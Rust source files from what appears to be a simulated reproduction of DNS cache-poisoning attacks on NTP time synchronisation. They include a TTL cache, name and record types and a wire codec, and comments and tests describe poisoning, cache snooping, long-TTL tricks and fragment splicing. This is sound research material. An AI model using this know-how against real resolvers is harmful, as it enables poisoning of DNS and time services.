    entries: FastMap<(Name, RecordType), CachedRrset>,
    max_ttl: u32,
}

/// A cache lookup result: the records with TTLs rewritten to the time
/// remaining.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CacheHit {
    /// Records with decremented TTLs.
    pub records: Vec<Record>,
    /// Seconds of validity remaining.
    pub remaining_ttl: u32,
}

impl DnsCache {
    /// Creates a cache that caps stored TTLs at `max_ttl` seconds
    /// (BIND-style `max-cache-ttl`; pass `u32::MAX` for no cap).
    pub fn new(max_ttl: u32) -> Self {
        DnsCache { entries: FastMap::default(), max_ttl }
    }

    /// Inserts (replaces) the RRset for `(name, rtype)`.
    ///
    /// The stored TTL is the minimum record TTL, capped at `max_ttl`. This
    /// is where the Chronos attack's `TTL > 24h` trick lands: an uncapped
    /// (or high-capped) resolver will serve the attacker's records from
    /// cache for the whole pool-generation window.
    pub fn insert(&mut self, now: SimTime, name: Name, rtype: RecordType, records: Vec<Record>) {
        if records.is_empty() {
            return;
        }
        let ttl = records.iter().map(|r| r.ttl).min().unwrap_or(0).min(self.max_ttl);
        self.entries.insert((name, rtype), CachedRrset { records, inserted: now, ttl });
    }

    /// Looks up a fresh RRset, rewriting TTLs to the remaining validity.
    pub fn lookup(&self, now: SimTime, name: &Name, rtype: RecordType) -> Option<CacheHit> {
        let entry = self.entries.get(&(name.clone(), rtype))?;
        let elapsed = now.saturating_since(entry.inserted).as_secs();
        if elapsed >= u64::from(entry.ttl) {
            return None;
        }
        let remaining = entry.ttl - elapsed as u32;
        let records = entry
            .records
            .iter()
            .map(|r| Record { ttl: remaining.min(r.ttl), ..r.clone() })
            .collect();
        Some(CacheHit { records, remaining_ttl: remaining })
    }

    /// True if a fresh RRset is cached (the RD=0 snooping primitive).
    pub fn contains(&self, now: SimTime, name: &Name, rtype: RecordType) -> bool {
        self.lookup(now, name, rtype).is_some()
    }

    /// Removes an RRset (cache eviction via third-party systems, §IV-B3).
    pub fn evict(&mut self, name: &Name, rtype: RecordType) -> bool {
        self.entries.remove(&(name.clone(), rtype)).is_some()
    }

    /// Drops everything.
    pub fn clear(&mut self) {
        self.entries.clear();
    }

    /// Number of cached RRsets (fresh or not; expiry is lazy).
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True if the cache holds nothing.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::time::SimDuration;
    use std::net::Ipv4Addr;

    fn pool() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    fn rrset(ttl: u32) -> Vec<Record> {
        vec![
            Record::a(pool(), ttl, Ipv4Addr::new(192, 0, 2, 1)),
            Record::a(pool(), ttl, Ipv4Addr::new(192, 0, 2, 2)),
        ]
    }

    #[test]
    fn hit_decrements_ttl() {
        let mut cache = DnsCache::new(u32::MAX);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, rrset(150));
        let t = SimTime::ZERO + SimDuration::from_secs(40);
        let hit = cache.lookup(t, &pool(), RecordType::A).unwrap();
        assert_eq!(hit.remaining_ttl, 110);
        assert!(hit.records.iter().all(|r| r.ttl == 110));
    }

    #[test]
    fn expiry_is_exact() {
        let mut cache = DnsCache::new(u32::MAX);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, rrset(150));
        let just_before = SimTime::ZERO + SimDuration::from_secs(149);
        assert!(cache.contains(just_before, &pool(), RecordType::A));
        let at = SimTime::ZERO + SimDuration::from_secs(150);
        assert!(!cache.contains(at, &pool(), RecordType::A));
    }

    #[test]
    fn max_ttl_caps_attacker_ttls() {
        let mut cache = DnsCache::new(3600);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, rrset(86_400 * 7));
        let hit = cache.lookup(SimTime::ZERO, &pool(), RecordType::A).unwrap();
        assert_eq!(hit.remaining_ttl, 3600);
    }

    #[test]
    fn insert_replaces_existing() {
        let mut cache = DnsCache::new(u32::MAX);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, rrset(150));
        let poisoned = vec![Record::a(pool(), 86_400, Ipv4Addr::new(6, 6, 6, 6))];
        cache.insert(SimTime::ZERO, pool(), RecordType::A, poisoned);
        let hit = cache.lookup(SimTime::ZERO, &pool(), RecordType::A).unwrap();
        assert_eq!(hit.records.len(), 1);
        assert_eq!(hit.records[0].as_a(), Some(Ipv4Addr::new(6, 6, 6, 6)));
    }

    #[test]
    fn eviction_removes() {
        let mut cache = DnsCache::new(u32::MAX);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, rrset(150));
        assert!(cache.evict(&pool(), RecordType::A));
        assert!(!cache.contains(SimTime::ZERO, &pool(), RecordType::A));
        assert!(!cache.evict(&pool(), RecordType::A));
    }

    #[test]
    fn empty_rrset_not_stored() {
        let mut cache = DnsCache::new(u32::MAX);
        cache.insert(SimTime::ZERO, pool(), RecordType::A, vec![]);
        assert!(cache.is_empty());
    }

    #[test]
    fn min_ttl_of_set_governs() {
        let mut cache = DnsCache::new(u32::MAX);
        let mixed = vec![
            Record::a(pool(), 150, Ipv4Addr::new(1, 1, 1, 1)),
            Record::a(pool(), 50, Ipv4Addr::new(2, 2, 2, 2)),
        ];
        cache.insert(SimTime::ZERO, pool(), RecordType::A, mixed);
        let t = SimTime::ZERO + SimDuration::from_secs(60);
        assert!(!cache.contains(t, &pool(), RecordType::A));
    }
}
