//! DNS domain names: case-insensitive label sequences with wire encoding
//! (RFC 1035 §3.1) including compression-pointer support.

use core::fmt;
use std::str::FromStr;

use crate::error::DnsError;

/// Maximum total wire length of a name.
pub const MAX_NAME_LEN: usize = 255;
/// Maximum length of a single label.
pub const MAX_LABEL_LEN: usize = 63;

/// A fully-qualified DNS name. Labels are stored lower-cased (DNS name
/// comparison is case-insensitive) without the trailing root dot.
///
/// ```
/// use dns::name::Name;
///
/// let name: Name = "POOL.NTP.ORG".parse().unwrap();
/// assert_eq!(name.to_string(), "pool.ntp.org");
/// assert!(name.is_subdomain_of(&"ntp.org".parse().unwrap()));
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Default)]
pub struct Name {
    labels: Vec<String>,
}

impl Name {
    /// The DNS root (empty) name.
    pub fn root() -> Self {
        Name { labels: Vec::new() }
    }

    /// Builds a name from labels, validating lengths.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::BadName`] on empty/oversized labels or names.
    pub fn from_labels<I, S>(labels: I) -> Result<Self, DnsError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut out = Vec::new();
        let mut wire_len = 1; // root byte
        for label in labels {
            let label = label.as_ref();
            if label.is_empty() || label.len() > MAX_LABEL_LEN {
                return Err(DnsError::BadName { reason: "label length out of range" });
            }
            wire_len += 1 + label.len();
            if wire_len > MAX_NAME_LEN {
                return Err(DnsError::BadName { reason: "name exceeds 255 bytes" });
            }
            out.push(label.to_ascii_lowercase());
        }
        Ok(Name { labels: out })
    }

    /// The labels, most-significant last (`["pool", "ntp", "org"]`).
    pub fn labels(&self) -> &[String] {
        &self.labels
    }

    /// Number of labels.
    pub fn label_count(&self) -> usize {
        self.labels.len()
    }

    /// True for the root name.
    pub fn is_root(&self) -> bool {
        self.labels.is_empty()
    }

    /// True if `self` is `other` or lies underneath it
    /// (`a.pool.ntp.org ⊑ ntp.org`). Every name is a subdomain of the root.
    pub fn is_subdomain_of(&self, other: &Name) -> bool {
        if other.labels.len() > self.labels.len() {
            return false;
        }
        self.labels.iter().rev().zip(other.labels.iter().rev()).all(|(a, b)| a == b)
    }

    /// The parent name (one label stripped); `None` for the root.
    pub fn parent(&self) -> Option<Name> {
        if self.labels.is_empty() {
            None
        } else {
            Some(Name { labels: self.labels[1..].to_vec() })
        }
    }

    /// Returns a child of this name: `label` prepended.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::BadName`] if the label is invalid.
    pub fn child(&self, label: &str) -> Result<Name, DnsError> {
        let mut labels = Vec::with_capacity(self.labels.len() + 1);
        labels.push(label.to_owned());
        labels.extend(self.labels.iter().cloned());
        Name::from_labels(labels)
    }

    /// Wire length when encoded without compression.
    pub fn wire_len(&self) -> usize {
        1 + self.labels.iter().map(|l| 1 + l.len()).sum::<usize>()
    }

    /// Iterates over the name and all its ancestors up to the root:
    /// `pool.ntp.org`, `ntp.org`, `org`, `.`.
    pub fn self_and_ancestors(&self) -> impl Iterator<Item = Name> + '_ {
        (0..=self.labels.len()).map(move |skip| Name { labels: self.labels[skip..].to_vec() })
    }
}

impl fmt::Display for Name {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.labels.is_empty() {
            return write!(f, ".");
        }
        write!(f, "{}", self.labels.join("."))
    }
}

impl FromStr for Name {
    type Err = DnsError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let s = s.strip_suffix('.').unwrap_or(s);
        if s.is_empty() {
            return Ok(Name::root());
        }
        Name::from_labels(s.split('.'))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_and_display() {
        let n: Name = "Pool.NTP.org.".parse().unwrap();
        assert_eq!(n.to_string(), "pool.ntp.org");
        assert_eq!(n.label_count(), 3);
    }

    #[test]
    fn root_parses_from_dot_and_empty() {
        assert!(Name::from_str(".").unwrap().is_root());
        assert!(Name::from_str("").unwrap().is_root());
        assert_eq!(Name::root().to_string(), ".");
    }

    #[test]
    fn subdomain_relation() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        let org: Name = "org".parse().unwrap();
        let child: Name = "0.pool.ntp.org".parse().unwrap();
        assert!(pool.is_subdomain_of(&pool));
        assert!(pool.is_subdomain_of(&org));
        assert!(child.is_subdomain_of(&pool));
        assert!(!org.is_subdomain_of(&pool));
        assert!(pool.is_subdomain_of(&Name::root()));
        // Same-length different name is not a subdomain.
        let other: Name = "pool.ntp.net".parse().unwrap();
        assert!(!other.is_subdomain_of(&pool));
    }

    #[test]
    fn parent_and_child() {
        let pool: Name = "pool.ntp.org".parse().unwrap();
        assert_eq!(pool.parent().unwrap().to_string(), "ntp.org");
        assert_eq!(pool.child("0").unwrap().to_string(), "0.pool.ntp.org");
        assert!(Name::root().parent().is_none());
    }

    #[test]
    fn oversize_label_rejected() {
        let long = "x".repeat(64);
        assert!(Name::from_labels([long.as_str()]).is_err());
        assert!(Name::from_labels(["ok", ""]).is_err());
    }

    #[test]
    fn oversize_name_rejected() {
        let label = "a".repeat(63);
        let labels = vec![label; 5]; // 5 * 64 + 1 > 255
        assert!(Name::from_labels(labels).is_err());
    }

    #[test]
    fn case_insensitive_equality_via_lowercasing() {
        let a: Name = "NS1.Pool.Ntp.Org".parse().unwrap();
        let b: Name = "ns1.pool.ntp.org".parse().unwrap();
        assert_eq!(a, b);
        #[allow(clippy::disallowed_types)] // test code (simlint R2 exempts tests)
        let set: std::collections::HashSet<Name> = [a].into_iter().collect();
        assert!(set.contains(&b));
    }

    #[test]
    fn ancestors_walk() {
        let n: Name = "a.b.c".parse().unwrap();
        let walk: Vec<String> = n.self_and_ancestors().map(|x| x.to_string()).collect();
        assert_eq!(walk, vec!["a.b.c", "b.c", "c", "."]);
    }

    #[test]
    fn wire_len_counts_length_bytes_and_root() {
        let n: Name = "pool.ntp.org".parse().unwrap();
        // 1+4 + 1+3 + 1+3 + 1 = 14
        assert_eq!(n.wire_len(), 14);
        assert_eq!(Name::root().wire_len(), 1);
    }
}
