//! # dns — the DNS substrate of the `timeshift` reproduction
//!
//! A from-scratch DNS implementation on top of [`netsim`], covering exactly
//! what *"The Impact of DNS Insecurity on Time"* (DSN 2020) exercises:
//!
//! * [`name`] / [`record`] / [`message`] — RFC 1035 wire format with
//!   compression pointers (byte layout matters: the attack splices response
//!   tails at fragment boundaries);
//! * [`cache`] — the TTL-bounded cache that gets poisoned and snooped;
//! * [`zone`] / [`auth`] — authoritative serving, including the
//!   `pool.ntp.org` zone (4 rotating A records, TTL 150 s, NS + glue) and
//!   the attacker's 89-address wildcard zone;
//! * [`resolver`] — a caching recursive resolver with port/TXID
//!   randomisation, bailiwick checks, delegation following, RD=0
//!   cache-only answers and optional DNSSEC-lite validation;
//! * [`dnssec`] — the structurally faithful DNSSEC-lite scheme;
//! * [`stub`] — client-side lookup helpers embedded by NTP clients.
//!
//! ```
//! use dns::prelude::*;
//! use netsim::prelude::*;
//!
//! let mut sim = Simulator::new(1);
//! let ns: std::net::Ipv4Addr = "198.51.100.1".parse()?;
//! let resolver_addr: std::net::Ipv4Addr = "10.0.0.53".parse()?;
//! let pool: Name = "pool.ntp.org".parse()?;
//!
//! let servers = (1..=8).map(|i| std::net::Ipv4Addr::new(192, 0, 2, i)).collect();
//! sim.add_host(ns, OsProfile::nameserver(548),
//!     Box::new(AuthServer::new(vec![pool_zone(servers, 4, ns)])))?;
//! sim.add_host(resolver_addr, OsProfile::linux(),
//!     Box::new(Resolver::new(ResolverConfig::default(), vec![(pool.clone(), vec![ns])])))?;
//!
//! let addrs = lookup_once(&mut sim, "10.0.0.100".parse()?, resolver_addr, &pool);
//! assert_eq!(addrs.len(), 4);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![warn(missing_docs)]

pub mod auth;
pub mod cache;
pub mod dnssec;
pub mod error;
pub mod message;
pub mod name;
pub mod record;
pub mod resolver;
pub mod stub;
pub mod zone;

/// Commonly used types.
pub mod prelude {
    pub use crate::auth::{
        ns_addrs, spawn_zone_nameservers, vulnerable_ns_profile, AuthServer, AuthStats, DNS_PORT,
    };
    pub use crate::cache::{CacheHit, DnsCache};
    pub use crate::dnssec::{make_rrsig, sign_rrset, TrustAnchors, ZoneKey};
    pub use crate::error::DnsError;
    pub use crate::message::{Header, Message, Question, Rcode};
    pub use crate::name::Name;
    pub use crate::record::{RData, Record, RecordType};
    pub use crate::resolver::{Resolver, ResolverConfig, ResolverStats};
    pub use crate::stub::{
        a_records, lookup_once, raw_a_query, snoop_once, DnsReply, OneShot, StubResolver,
    };
    pub use crate::zone::{
        malicious_pool_zone, pool_zone, AnswerPolicy, Zone, POOL_ADDRS_PER_RESPONSE, POOL_A_TTL,
    };
}
