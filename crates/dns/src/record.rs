//! Resource records: types, RDATA variants and record structures.

use core::fmt;
use std::net::Ipv4Addr;

use bytes::Bytes;

use crate::name::Name;

/// Record types modelled by this crate. DNSSEC types implement the
//  simplified "DNSSEC-lite" scheme described in [`crate::dnssec`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum RecordType {
    /// IPv4 address.
    A,
    /// Authoritative nameserver.
    Ns,
    /// Canonical name alias.
    Cname,
    /// Start of authority.
    Soa,
    /// Free-form text.
    Txt,
    /// EDNS0 pseudo-record.
    Opt,
    /// DNSSEC-lite signature over an RRset.
    Rrsig,
    /// DNSSEC-lite zone key.
    Dnskey,
    /// Anything else, carried opaquely.
    Unknown(u16),
}

impl RecordType {
    /// Wire value.
    pub fn code(self) -> u16 {
        match self {
            RecordType::A => 1,
            RecordType::Ns => 2,
            RecordType::Cname => 5,
            RecordType::Soa => 6,
            RecordType::Txt => 16,
            RecordType::Opt => 41,
            RecordType::Rrsig => 46,
            RecordType::Dnskey => 48,
            RecordType::Unknown(code) => code,
        }
    }

    /// Parses a wire value.
    pub fn from_code(code: u16) -> RecordType {
        match code {
            1 => RecordType::A,
            2 => RecordType::Ns,
            5 => RecordType::Cname,
            6 => RecordType::Soa,
            16 => RecordType::Txt,
            41 => RecordType::Opt,
            46 => RecordType::Rrsig,
            48 => RecordType::Dnskey,
            other => RecordType::Unknown(other),
        }
    }
}

impl fmt::Display for RecordType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RecordType::A => write!(f, "A"),
            RecordType::Ns => write!(f, "NS"),
            RecordType::Cname => write!(f, "CNAME"),
            RecordType::Soa => write!(f, "SOA"),
            RecordType::Txt => write!(f, "TXT"),
            RecordType::Opt => write!(f, "OPT"),
            RecordType::Rrsig => write!(f, "RRSIG"),
            RecordType::Dnskey => write!(f, "DNSKEY"),
            RecordType::Unknown(code) => write!(f, "TYPE{code}"),
        }
    }
}

/// Typed RDATA.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum RData {
    /// An IPv4 address.
    A(Ipv4Addr),
    /// A nameserver host name.
    Ns(Name),
    /// An alias target.
    Cname(Name),
    /// Start-of-authority (only the fields the simulation uses).
    Soa {
        /// Primary nameserver.
        mname: Name,
        /// Zone serial.
        serial: u32,
        /// Negative-caching TTL.
        minimum: u32,
    },
    /// Text data.
    Txt(String),
    /// EDNS0: advertised UDP payload size travels in the class field, but
    /// this simulator keeps it in the RDATA for simplicity of the codec.
    Opt {
        /// Advertised maximum UDP payload size.
        udp_payload_size: u16,
    },
    /// DNSSEC-lite signature: covers the RRset `(owner, type_covered)` in
    /// the same message, made with the zone key of `signer`.
    Rrsig {
        /// The RRset type this signature covers.
        type_covered: RecordType,
        /// The signing zone.
        signer: Name,
        /// 64-bit keyed tag (see [`crate::dnssec::sign_rrset`]).
        signature: u64,
    },
    /// DNSSEC-lite public key marker.
    Dnskey {
        /// Key identifier.
        key_tag: u16,
    },
    /// Opaque RDATA for unknown types.
    Unknown {
        /// The record type code.
        rtype: u16,
        /// Raw bytes.
        data: Bytes,
    },
}

impl RData {
    /// The record type this RDATA belongs to.
    pub fn rtype(&self) -> RecordType {
        match self {
            RData::A(_) => RecordType::A,
            RData::Ns(_) => RecordType::Ns,
            RData::Cname(_) => RecordType::Cname,
            RData::Soa { .. } => RecordType::Soa,
            RData::Txt(_) => RecordType::Txt,
            RData::Opt { .. } => RecordType::Opt,
            RData::Rrsig { .. } => RecordType::Rrsig,
            RData::Dnskey { .. } => RecordType::Dnskey,
            RData::Unknown { rtype, .. } => RecordType::Unknown(*rtype),
        }
    }
}

/// A resource record (class is always IN in this simulator).
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Record {
    /// Owner name.
    pub name: Name,
    /// Time to live in seconds.
    pub ttl: u32,
    /// Typed payload.
    pub data: RData,
}

impl Record {
    /// Creates a record.
    pub fn new(name: Name, ttl: u32, data: RData) -> Self {
        Record { name, ttl, data }
    }

    /// Convenience constructor for an A record.
    pub fn a(name: Name, ttl: u32, addr: Ipv4Addr) -> Self {
        Record::new(name, ttl, RData::A(addr))
    }

    /// Convenience constructor for an NS record.
    pub fn ns(name: Name, ttl: u32, target: Name) -> Self {
        Record::new(name, ttl, RData::Ns(target))
    }

    /// The record's type.
    pub fn rtype(&self) -> RecordType {
        self.data.rtype()
    }

    /// The IPv4 address if this is an A record.
    pub fn as_a(&self) -> Option<Ipv4Addr> {
        match self.data {
            RData::A(addr) => Some(addr),
            _ => None,
        }
    }

    /// The NS target if this is an NS record.
    pub fn as_ns(&self) -> Option<&Name> {
        match &self.data {
            RData::Ns(target) => Some(target),
            _ => None,
        }
    }
}

impl fmt::Display for Record {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} IN {}", self.name, self.ttl, self.rtype())?;
        match &self.data {
            RData::A(addr) => write!(f, " {addr}"),
            RData::Ns(t) | RData::Cname(t) => write!(f, " {t}"),
            RData::Txt(s) => write!(f, " \"{s}\""),
            RData::Soa { mname, serial, .. } => write!(f, " {mname} {serial}"),
            RData::Opt { udp_payload_size } => write!(f, " size={udp_payload_size}"),
            RData::Rrsig { type_covered, signer, signature } => {
                write!(f, " covers={type_covered} signer={signer} sig={signature:#018x}")
            }
            RData::Dnskey { key_tag } => write!(f, " tag={key_tag}"),
            RData::Unknown { data, .. } => write!(f, " \\# {}", data.len()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn type_codes_round_trip() {
        for t in [
            RecordType::A,
            RecordType::Ns,
            RecordType::Cname,
            RecordType::Soa,
            RecordType::Txt,
            RecordType::Opt,
            RecordType::Rrsig,
            RecordType::Dnskey,
            RecordType::Unknown(999),
        ] {
            assert_eq!(RecordType::from_code(t.code()), t);
        }
    }

    #[test]
    fn record_accessors() {
        let name: Name = "pool.ntp.org".parse().unwrap();
        let a = Record::a(name.clone(), 150, Ipv4Addr::new(192, 0, 2, 1));
        assert_eq!(a.rtype(), RecordType::A);
        assert_eq!(a.as_a(), Some(Ipv4Addr::new(192, 0, 2, 1)));
        assert!(a.as_ns().is_none());
        let ns = Record::ns(name.clone(), 3600, "ns1.pool.ntp.org".parse().unwrap());
        assert_eq!(ns.as_ns().unwrap().to_string(), "ns1.pool.ntp.org");
    }

    #[test]
    fn display_is_zonefile_like() {
        let r = Record::a("a.b".parse().unwrap(), 60, Ipv4Addr::new(1, 2, 3, 4));
        assert_eq!(r.to_string(), "a.b 60 IN A 1.2.3.4");
    }
}
