//! DNS message wire codec (RFC 1035 §4) with name compression.
//!
//! Byte layout matters here: the fragmentation attack splices the *tail* of
//! a real response, so encoded messages must be stable and realistic —
//! header, question, then answer/authority/additional sections, with
//! compression pointers shrinking repeated names exactly the way real
//! servers do.

use bytes::{BufMut, Bytes, BytesMut};
use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use crate::error::DnsError;
use crate::name::Name;
use crate::record::{RData, Record, RecordType};

/// Response codes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Rcode {
    /// No error.
    #[default]
    NoError,
    /// Malformed query.
    FormErr,
    /// Server failure (also: DNSSEC validation failure).
    ServFail,
    /// Name does not exist.
    NxDomain,
    /// Not implemented.
    NotImp,
    /// Policy refusal.
    Refused,
    /// Any other code.
    Other(u8),
}

impl Rcode {
    /// Wire value (4 bits).
    pub fn code(self) -> u8 {
        match self {
            Rcode::NoError => 0,
            Rcode::FormErr => 1,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
            Rcode::NotImp => 4,
            Rcode::Refused => 5,
            Rcode::Other(code) => code & 0xF,
        }
    }

    /// Parses a wire value.
    pub fn from_code(code: u8) -> Rcode {
        match code & 0xF {
            0 => Rcode::NoError,
            1 => Rcode::FormErr,
            2 => Rcode::ServFail,
            3 => Rcode::NxDomain,
            4 => Rcode::NotImp,
            5 => Rcode::Refused,
            other => Rcode::Other(other),
        }
    }
}

/// Message header (counts are derived from the section vectors at encode
/// time).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Header {
    /// Transaction ID — one half of the challenge-response entropy the
    /// fragmentation attack sidesteps (it lives in the first fragment).
    pub id: u16,
    /// True for responses.
    pub qr: bool,
    /// Operation code (0 = standard query).
    pub opcode: u8,
    /// Authoritative answer.
    pub aa: bool,
    /// Truncated.
    pub tc: bool,
    /// Recursion desired.
    pub rd: bool,
    /// Recursion available.
    pub ra: bool,
    /// Authenticated data (DNSSEC validated).
    pub ad: bool,
    /// Response code.
    pub rcode: Rcode,
}

/// A question entry.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Question {
    /// Queried name.
    pub name: Name,
    /// Queried type.
    pub qtype: RecordType,
}

/// A complete DNS message.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Message {
    /// Header flags and ID.
    pub header: Header,
    /// Question section.
    pub questions: Vec<Question>,
    /// Answer section.
    pub answers: Vec<Record>,
    /// Authority section.
    pub authorities: Vec<Record>,
    /// Additional section (glue, OPT).
    pub additionals: Vec<Record>,
}

impl Message {
    /// Builds a standard query.
    pub fn query(id: u16, name: Name, qtype: RecordType, recursion_desired: bool) -> Message {
        Message {
            header: Header { id, rd: recursion_desired, ..Header::default() },
            questions: vec![Question { name, qtype }],
            ..Message::default()
        }
    }

    /// Builds an empty response skeleton echoing `query`'s ID, question and
    /// RD flag.
    pub fn response_to(query: &Message) -> Message {
        Message {
            header: Header {
                id: query.header.id,
                qr: true,
                rd: query.header.rd,
                ..Header::default()
            },
            questions: query.questions.clone(),
            ..Message::default()
        }
    }

    /// The first question, if any.
    pub fn question(&self) -> Option<&Question> {
        self.questions.first()
    }

    /// All A-record addresses in the answer section.
    pub fn answer_addrs(&self) -> Vec<Ipv4Addr> {
        self.answers.iter().filter_map(Record::as_a).collect()
    }

    /// Encodes the message to wire bytes with name compression.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Oversize`] if the result exceeds 65 535 bytes.
    pub fn encode(&self) -> Result<Bytes, DnsError> {
        let mut enc = Encoder::new();
        enc.buf.put_u16(self.header.id);
        let mut flags: u16 = 0;
        if self.header.qr {
            flags |= 0x8000;
        }
        flags |= u16::from(self.header.opcode & 0xF) << 11;
        if self.header.aa {
            flags |= 0x0400;
        }
        if self.header.tc {
            flags |= 0x0200;
        }
        if self.header.rd {
            flags |= 0x0100;
        }
        if self.header.ra {
            flags |= 0x0080;
        }
        if self.header.ad {
            flags |= 0x0020;
        }
        flags |= u16::from(self.header.rcode.code());
        enc.buf.put_u16(flags);
        enc.buf.put_u16(self.questions.len() as u16);
        enc.buf.put_u16(self.answers.len() as u16);
        enc.buf.put_u16(self.authorities.len() as u16);
        enc.buf.put_u16(self.additionals.len() as u16);
        for q in &self.questions {
            enc.put_name(&q.name);
            enc.buf.put_u16(q.qtype.code());
            enc.buf.put_u16(1); // class IN
        }
        for record in self.answers.iter().chain(&self.authorities).chain(&self.additionals) {
            enc.put_record(record)?;
        }
        if enc.buf.len() > usize::from(u16::MAX) {
            return Err(DnsError::Oversize { len: enc.buf.len() });
        }
        Ok(enc.buf.freeze())
    }

    /// Decodes a message from wire bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError`] on truncation, bad pointers or malformed fields.
    pub fn decode(data: &[u8]) -> Result<Message, DnsError> {
        let mut dec = Decoder { data, pos: 0 };
        if data.len() < 12 {
            return Err(DnsError::Truncated { context: "header" });
        }
        let id = dec.u16()?;
        let flags = dec.u16()?;
        let qdcount = dec.u16()?;
        let ancount = dec.u16()?;
        let nscount = dec.u16()?;
        let arcount = dec.u16()?;
        let header = Header {
            id,
            qr: flags & 0x8000 != 0,
            opcode: ((flags >> 11) & 0xF) as u8,
            aa: flags & 0x0400 != 0,
            tc: flags & 0x0200 != 0,
            rd: flags & 0x0100 != 0,
            ra: flags & 0x0080 != 0,
            ad: flags & 0x0020 != 0,
            rcode: Rcode::from_code(flags as u8),
        };
        let mut questions = Vec::with_capacity(usize::from(qdcount));
        for _ in 0..qdcount {
            let name = dec.read_name()?;
            let qtype = RecordType::from_code(dec.u16()?);
            let _class = dec.u16()?;
            questions.push(Question { name, qtype });
        }
        let read_section = |dec: &mut Decoder<'_>, count: u16| -> Result<Vec<Record>, DnsError> {
            let mut out = Vec::with_capacity(usize::from(count));
            for _ in 0..count {
                out.push(dec.read_record()?);
            }
            Ok(out)
        };
        let answers = read_section(&mut dec, ancount)?;
        let authorities = read_section(&mut dec, nscount)?;
        let additionals = read_section(&mut dec, arcount)?;
        Ok(Message { header, questions, answers, authorities, additionals })
    }
}

struct Encoder {
    buf: BytesMut,
    // Canonical dotted suffix -> offset of its first occurrence.
    offsets: FastMap<String, u16>,
}

impl Encoder {
    fn new() -> Self {
        Encoder { buf: BytesMut::with_capacity(512), offsets: FastMap::default() }
    }

    fn put_name(&mut self, name: &Name) {
        let labels = name.labels();
        for i in 0..labels.len() {
            let suffix = labels[i..].join(".");
            if let Some(&off) = self.offsets.get(&suffix) {
                self.buf.put_u16(0xC000 | off);
                return;
            }
            if self.buf.len() < 0x3FFF {
                self.offsets.insert(suffix, self.buf.len() as u16);
            }
            let label = &labels[i];
            self.buf.put_u8(label.len() as u8);
            self.buf.put_slice(label.as_bytes());
        }
        self.buf.put_u8(0);
    }

    fn put_record(&mut self, record: &Record) -> Result<(), DnsError> {
        self.put_name(&record.name);
        self.buf.put_u16(record.rtype().code());
        // Class: IN for everything except OPT, where EDNS0 reuses the class
        // field as the advertised UDP payload size (RFC 6891).
        match record.data {
            RData::Opt { udp_payload_size } => self.buf.put_u16(udp_payload_size),
            _ => self.buf.put_u16(1),
        }
        self.buf.put_u32(record.ttl);
        let rdlen_pos = self.buf.len();
        self.buf.put_u16(0); // placeholder
        match &record.data {
            RData::A(addr) => self.buf.put_slice(&addr.octets()),
            RData::Ns(target) | RData::Cname(target) => self.put_name(target),
            RData::Soa { mname, serial, minimum } => {
                self.put_name(mname);
                self.put_name(mname); // rname: reuse mname for compactness
                self.buf.put_u32(*serial);
                self.buf.put_u32(3600); // refresh
                self.buf.put_u32(600); // retry
                self.buf.put_u32(86_400); // expire
                self.buf.put_u32(*minimum);
            }
            RData::Txt(text) => {
                for chunk in text.as_bytes().chunks(255) {
                    self.buf.put_u8(chunk.len() as u8);
                    self.buf.put_slice(chunk);
                }
            }
            RData::Opt { .. } => {}
            RData::Rrsig { type_covered, signer, signature } => {
                self.buf.put_u16(type_covered.code());
                // Signer name, uncompressed per RFC 4034 §3.1.7.
                for label in signer.labels() {
                    self.buf.put_u8(label.len() as u8);
                    self.buf.put_slice(label.as_bytes());
                }
                self.buf.put_u8(0);
                self.buf.put_u64(*signature);
            }
            RData::Dnskey { key_tag } => self.buf.put_u16(*key_tag),
            RData::Unknown { data, .. } => self.buf.put_slice(data),
        }
        let rdlen = self.buf.len() - rdlen_pos - 2;
        if rdlen > usize::from(u16::MAX) {
            return Err(DnsError::Oversize { len: rdlen });
        }
        self.buf[rdlen_pos..rdlen_pos + 2].copy_from_slice(&(rdlen as u16).to_be_bytes());
        Ok(())
    }
}

struct Decoder<'a> {
    data: &'a [u8],
    pos: usize,
}

impl<'a> Decoder<'a> {
    fn u8(&mut self) -> Result<u8, DnsError> {
        let b = *self.data.get(self.pos).ok_or(DnsError::Truncated { context: "u8" })?;
        self.pos += 1;
        Ok(b)
    }

    fn u16(&mut self) -> Result<u16, DnsError> {
        let hi = self.u8()?;
        let lo = self.u8()?;
        Ok(u16::from_be_bytes([hi, lo]))
    }

    fn u32(&mut self) -> Result<u32, DnsError> {
